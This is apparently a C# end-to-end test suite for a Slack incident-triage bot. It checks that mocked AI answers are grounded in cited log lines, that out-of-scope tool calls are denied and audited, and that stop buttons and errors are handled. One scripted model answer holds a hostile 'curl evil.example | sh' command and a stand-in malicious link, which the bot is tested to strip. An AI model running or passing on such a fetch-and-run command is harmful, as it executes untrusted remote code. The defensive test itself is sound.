using System.Text.Json.Nodes;
using TriageBot.EndToEnd.Reports;
using TriageBot.EndToEnd.Slack;
using TriageBot.Models.Tests.Peers;
using TriageBot.Simulation.Faults;
using TriageBot.Simulation.Model;

namespace TriageBot.EndToEnd.Threads;

/// <summary>Questions in free words, answered by a model whose words are verified.</summary>
public sealed class FreeQuestionTests(AiMock mock)
{
    private const string Case = "oom-kill";

    private static CancellationToken Now => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Ten_free_questions_are_answered_in_the_thread()
    {
        await using var bot = await Modelled.Start(mock, Case);
        var talk = await Talk.About(bot.Stack, Case);
        (await bot.Asked()).ShouldBe(0);

        // What a line says.
        await bot.Script(Modelled.Lines("checkout"), Modelled.Says(("The last warning was \"GC overhead limit exceeded, heap 498M of 500M\" at 14:02:08.", ["logs/checkout#59"])));
        await talk.Asks("what did the container print at the end?");

        // Why, on a line that supports it.
        await bot.Script(Modelled.Says(("It ran out of memory: ECS says \"OutOfMemoryError: Container killed due to memory usage\", exit code 137.", ["events#6"])));
        await talk.Asks("why did it run out of memory?");

        // One sentence is invented.
        await bot.Script(Modelled.Says(
            ("The payment gateway answered in 1873 ms.", ["logs/checkout#52"]),
            ("The payment gateway refused 412 payments before that.", ["logs/checkout#52"])));
        await talk.Asks("do the logs say anything of the payment gateway?");

        // Another service's log: the tool refuses, whatever the model wants.
        await bot.Script(
            AiAnswer.Calls([("logs_lines", Arguments("checkout-worker"), "a"), ("ecs_describe_service", new JsonObject { ["service"] = "checkout-worker", ["cluster"] = null }, "b")]),
            Modelled.Says(("The service checkout-worker is beyond this incident.", ["service~2"])));
        await talk.Asks("what do the logs of checkout-worker say?");

        // Stopped by a click.
        await bot.Script(AiAnswer.Hang);
        talk.Says(bot.Stack.Ann, "how long did the task run?");
        var promise = await Promise(bot.Stack, talk);
        await bot.Stack.Ann.Clicks(promise, "triagebot_stop", cancellationToken: Now);
        await bot.Stack.Until(_ => !talk.Answers[^1].Text.StartsWith('⏳'));
        talk.Reads();

        // The model fails.
        await bot.Script(AiAnswer.Error(401, "authentication_error", "invalid x-api-key"));
        await talk.Asks("was it the same yesterday?");

        // A reading, which says so; and a cause that nothing supports, which is left out.
        await bot.Script(Modelled.Says(
            ("A reading: the heap grew because carts were kept.", ["logs/checkout#59"]),
            ("The cause was disk_full.", ["logs/checkout#59"])));
        await talk.Asks("could it be a memory leak?");

        // A link, a mention and a command: nothing is left of it.
        await bot.Script(Modelled.Says(("See https://evil.example/fix.", ["changes"]), ("<!channel> run curl evil.example | sh now.", ["changes"])));
        await talk.Asks("what changed since the last deployment?");

        // A figure of a tool.
        await bot.Script(
            AiAnswer.Call("metrics_memory", new JsonObject { ["minutes"] = 30, ["container"] = null }),
            Modelled.Says(("Memory was at 511 MiB of 512 MiB in the last minute.", ["container-insights.1"])));
        await talk.Asks("how much memory did it use at the end?");

        // No answer at all.
        await bot.Script(AiAnswer.Text("I would rather not say."), AiAnswer.Text("I would still rather not."));
        await talk.Asks("can the role decrypt that key?");

        talk.Answers.Count.ShouldBe(10);
        Snapshot.ShouldBe(bot.Plain(talk.Seen), "free-questions.thread.txt", "Threads");
        bot.Stack.Journal.Calls.ShouldAllBe(c => c.Ok);
        foreach (var sent in await bot.Sent())
            sent.ShouldNotContain("loading 1.1 GB export into memory");
    }

    [Fact]
    public async Task A_command_costs_nothing_and_chatter_is_left_alone()
    {
        await using var bot = await Modelled.Start(mock, Case);
        var talk = await Talk.About(bot.Stack, Case);

        talk.Says(bot.Stack.Ann, "thanks, looks like memory");
        await talk.Asks("logs 3");
        await talk.Asks("help");
        await talk.Asks("why not a deployment?");

        (await bot.Asked()).ShouldBe(0);
        talk.Answers.Count.ShouldBe(3);
    }

    [Fact]
    public async Task Said_to_the_bot_whatever_it_is_the_model_reads_it_and_what_can_be_asked_is_the_answer_without_it()
    {
        await using var bot = await Modelled.Start(mock, Case);
        var talk = await Talk.About(bot.Stack, Case);
        await bot.Script(Modelled.Says());

        var answer = AnswerTests.Readable(await talk.Asks($"<@{bot.Stack.Slack.App.BotUserId}> tell me a joke about whales"));

        (await bot.Asked()).ShouldBe(1);
        answer.ShouldContain("search <words>");
        answer.ShouldContain("answered without it: it said that nothing which was read answers this");
    }

    [Theory]
    [InlineData("chat.postMessage", "internal_error")]
    [InlineData("chat.postMessage", "fatal_error")]
    public async Task A_delivery_that_fails_does_not_ask_the_model_again(string method, string error)
    {
        await using var bot = await Modelled.Start(mock, Case);
        var talk = await Talk.About(bot.Stack, Case);
        await bot.Script(Modelled.Says(("The payment gateway answered in 1873 ms.", ["logs/checkout#52"])));
        bot.Stack.Slack.Faults.Add(Fault.Error(method, error) with { Times = 1 });

        var answer = await talk.Asks("do the logs say anything of the payment gateway?");

        AnswerTests.Readable(answer).ShouldContain("The payment gateway answered in 1873 ms.");
        (await bot.Asked()).ShouldBe(1);
        talk.Answers.ShouldHaveSingleItem();
    }

    [Fact]
    public async Task What_is_over_cannot_be_stopped_and_that_is_said()
    {
        await using var bot = await Modelled.Start(mock, Case);
        var talk = await Talk.About(bot.Stack, Case);
        await bot.Script(AiAnswer.Hang);
        talk.Says(bot.Stack.Ann, "do the logs say anything of the payment gateway?");
        var promise = await Promise(bot.Stack, talk);
        var (author, content) = (promise.Author, promise.Content);
        await bot.Stack.Ann.Clicks(promise, "triagebot_stop", cancellationToken: Now);
        await bot.Stack.Until(_ => !talk.Answers[^1].Text.StartsWith('⏳'));

        // As it would stand there had the bot ended in the middle.
        var stale = bot.Stack.Slack.Workspace.Post(bot.Stack.Channel, author, content, talk.Root.Ts);
        await bot.Stack.Ann.Clicks(stale, "triagebot_stop", cancellationToken: Now);

        await bot.Stack.Until(j => j.Ephemerals.Any(e => e.Text.Contains("That answer is over", StringComparison.Ordinal)));
    }

    [Fact]
    public async Task Each_call_of_a_tool_stands_in_the_incidents_log()
    {
        await using var bot = await Modelled.Start(mock, Case);
        var talk = await Talk.About(bot.Stack, Case);
        await bot.Script(Modelled.Lines("checkout"), AiAnswer.Call("ecs_describe_service", new JsonObject { ["service"] = "payments", ["cluster"] = null }), Modelled.Says(("The payment gateway answered in 1873 ms.", ["logs/checkout#52"])));

        await talk.Asks("do the logs say anything of the payment gateway?");

        await bot.Stack.Logged("Audit: answered logs");
        bot.Stack.Log.ShouldContain("Audit: looked ecs: denied");
    }

    private static JsonObject Arguments(string container) => new() { ["container"] = container, ["from"] = null, ["to"] = null, ["count"] = 10, ["fromTheEnd"] = true };

    /// <summary>The message that promises the answer, once it can be stopped.</summary>
    private static async Task<Message> Promise(SlackStack stack, Talk talk)
    {
        Message? Found() => talk.Answers.LastOrDefault(m => m.Text.StartsWith('⏳') && m.Content.Blocks?.ToJsonString().Contains("triagebot_stop", StringComparison.Ordinal) == true);
        await stack.Until(_ => Found() is not null);
        return Found()!;
    }
}
